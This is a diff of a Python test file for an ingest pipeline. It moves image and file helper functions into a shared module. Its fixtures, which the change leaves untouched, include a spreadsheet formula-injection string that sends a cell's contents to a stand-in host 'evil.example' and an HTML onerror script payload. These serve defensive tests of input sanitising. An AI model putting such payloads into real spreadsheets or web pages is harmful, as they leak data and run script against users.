@@ -13,14 +13,13 @@ import io
 import os
 from pathlib import Path
 
-import numpy as np
 import pyarrow.parquet as pq
 import pytest
+from helpers.files import png, write
 
 from busgen.core.storage import write_tables
 from busgen.data import schema as S
 from busgen.data.dataset import read_table
-from busgen.data.imageio import encode_png
 from busgen.data.ingest import IngestConfig, ingest
 from busgen.data.sources import discover
 
@@ -28,16 +27,6 @@ BAD_NAME = b"\xffscan\xfe.png"  # Latin-1 bytes from an old PACS export: not UTF
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HTML_DOMAIN = "<img src=x onerror=alert(1)>"
 FORMULA_STARTS = ("=", "+", "-", "@")
-
-
-def png(seed: int, size: int = 24) -> bytes:
-    return encode_png(np.random.default_rng(seed).integers(0, 256, (size, size), dtype=np.uint8))
-
-
-def write(path: Path, data: bytes) -> Path:
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_bytes(data)
-    return path
 
 
 @pytest.fixture(autouse=True)
